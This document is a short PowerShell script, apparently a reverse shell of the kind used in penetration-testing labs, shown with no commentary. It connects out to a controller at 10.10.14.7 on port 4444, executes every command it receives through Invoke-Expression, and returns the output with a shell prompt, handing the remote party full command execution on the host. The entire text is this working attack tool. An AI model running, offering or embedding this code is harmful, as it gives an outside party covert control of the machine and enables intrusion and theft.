$c2 = '10.10.14.7'
$port = 4444
$client = New-Object System.Net.Sockets.TcpClient($c2, $port)
$stream = $client.GetStream()
[byte[]]$buffer = 0..65535 | % { 0 }
$enc = New-Object System.Text.ASCIIEncoding

while (($read = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = $enc.GetString($buffer, 0, $read)
    try {
        $out = iex $cmd 2>&1 | Out-String
    }
    catch {
        $out = $_.Exception.Message
    }
    $reply = $enc.GetBytes($out + 'PS ' + (Get-Location).Path + '> ')
    $stream.Write($reply, 0, $reply.Length)
    $stream.Flush()
}
$client.Close()
